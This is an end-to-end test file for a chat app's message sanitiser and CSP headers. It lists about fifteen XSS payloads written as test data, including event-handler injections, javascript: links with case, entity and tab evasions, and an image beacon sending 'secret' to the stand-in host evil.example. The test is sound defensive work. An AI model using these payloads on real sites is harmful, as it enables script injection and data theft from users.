import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { type E2EApp, openChat, startE2E, userPage, WAIT_MS } from "./harness";

/** Each payload, if it ran, would set `window.__pwned` (or load from evil.example). */
const PAYLOADS = [
  "<script>window.__pwned = 'script'</script>",
  '<img src="x" onerror="window.__pwned = \'img\'">',
  "<svg onload=\"window.__pwned = 'svg'\"></svg>",
  "<iframe src=\"javascript:parent.__pwned = 'iframe'\"></iframe>",
  "[click me](javascript:window.__pwned='md-link')",
  "[shout](JaVaScRiPt:window.__pwned='mixed-case')",
  "<a href=\"javascript:window.__pwned='raw-link'\">raw link</a>",
  "[data](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19wd25lZD0xPC9zY3JpcHQ+)",
  "![leak](https://evil.example/pixel.png?d=secret)",
  '<img src="https://evil.example/raw.png">',
  "```html\n<script>window.__pwned = 'code'</script>\n```",
  // The sanitiser reads a scheme as the browser does: entities decoded, tabs ignored.
  "[entity](&#106;avascript:window.__pwned='entity')",
  "[tab](java\tscript:window.__pwned='tab')",
  "[vb](vbscript:msgbox(1)) and <https://ok.example/page>\n\n| a | b |\n|---|---|\n| 1 | 2 |",
  "**bold** <b onmouseover=\"window.__pwned='hover'\">hover me</b>",
];

describe("untrusted message content renders inert", { timeout: 90_000 }, () => {
  let app: E2EApp;
  beforeAll(async () => {
    app = await startE2E();
  });
  afterAll(async () => {
    await app?.close();
  });

  it("history and live messages with script, handlers, javascript: links and remote images", async () => {
    const a = await userPage(app, "mallory");
    const session = (await app.api.post("/chat/sessions", { title: "xss" }, a.token)).body;
    const outside: string[] = [];
    a.page.on("request", (r) => {
      if (!r.url().startsWith(app.url) && !r.url().startsWith("data:")) outside.push(r.url());
    });
    const half = Math.ceil(PAYLOADS.length / 2);
    // Half from history (REST on load), half arriving live (message:new).
    for (const content of PAYLOADS.slice(0, half)) {
      expect(
        (await app.api.post("/chat/", { sessionId: session.id, content, ai: false }, a.token))
          .status,
      ).toBe(200);
    }
    await openChat(a.page, session.id);
    for (const content of PAYLOADS.slice(half)) {
      expect(
        (await app.api.post("/chat/", { sessionId: session.id, content, ai: false }, a.token))
          .status,
      ).toBe(200);
    }
    await a.page.waitForFunction(
      (n) => document.querySelectorAll("[data-testid=message][data-status=complete]").length === n,
      PAYLOADS.length,
      { timeout: WAIT_MS },
    );
    await a.page.waitForSelector("pre code.hljs", { timeout: WAIT_MS });

    // Hover and click everything that could carry a handler or a link.
    for (const el of await a.page.$$(
      "[data-testid=message-content] a, [data-testid=message-content] b",
    )) {
      await el.hover();
      await el.click({ modifiers: [] }).catch(() => {});
    }

    const report = await a.page.evaluate(() => {
      const contents = [...document.querySelectorAll("[data-testid=message-content]")];
      const all = contents.flatMap((c) => [...c.querySelectorAll("*")]);
      return {
        pwned: (window as unknown as { __pwned?: unknown }).__pwned ?? null,
        dangerousTags: all.filter((e) =>
          /^(SCRIPT|IFRAME|OBJECT|EMBED|SVG|STYLE|FORM)$/i.test(e.tagName),
        ).length,
        handlerAttrs: all.flatMap((e) =>
          [...e.attributes].filter((a) => /^on/i.test(a.name)).map((a) => a.name),
        ),
        badHrefs: all
          .filter((e) => e.tagName === "A")
          .map((e) => e.getAttribute("href") ?? "")
          .filter((h) => /^\s*(javascript|data|vbscript):/i.test(h)),
        remoteImgs: all
          .filter((e) => e.tagName === "IMG")
          .map((e) => (e as HTMLImageElement).src)
          .filter((s) => s && !s.startsWith(location.origin)),
        // Raw HTML is shown as text, not dropped silently: the reader sees what was sent.
        scriptShownAsText: contents[0]?.textContent?.includes("<script>") ?? false,
        inlineScripts: [...document.scripts].filter((s) => !s.src).length,
        // What is safe still renders: a web link (opening elsewhere) and a table.
        safeLink: all.some(
          (e) =>
            e.getAttribute("href") === "https://ok.example/page" &&
            e.getAttribute("rel")?.includes("noopener"),
        ),
        tables: all.filter((e) => e.tagName === "TABLE").length,
      };
    });
    expect(report).toEqual({
      pwned: null,
      dangerousTags: 0,
      handlerAttrs: [],
      badHrefs: [],
      remoteImgs: [],
      scriptShownAsText: true,
      inlineScripts: 0,
      safeLink: true,
      tables: 1,
    });
    expect(outside).toEqual([]);
    expect(a.errors.filter((e) => e.startsWith("pageerror"))).toEqual([]);
    await a.context.close();
  });

  it("app pages carry a CSP with no inline script and no outside origins", async () => {
    for (const path of [
      "/",
      "/login",
      "/chat/00000000-0000-4000-8000-000000000000",
      "/invite/abc",
    ]) {
      const res = await fetch(`${app.url}${path}`);
      expect(res.status).toBe(200);
      const csp = res.headers.get("content-security-policy") ?? "";
      const directives = Object.fromEntries(
        csp.split(";").map((d) => {
          const [name, ...values] = d.trim().split(/\s+/);
          return [name, values];
        }),
      );
      expect(directives["script-src"]).toEqual(["'self'"]);
      expect(directives["default-src"]).toEqual(["'self'"]);
      expect(directives["connect-src"]).toEqual(["'self'"]);
      expect(csp).not.toMatch(/https?:\/\//);
      // The page itself has no inline script for the policy to have to allow.
      const html = await res.text();
      expect(html).not.toMatch(/<script(?![^>]*\bsrc=)[^>]*>/);
    }
  });
});
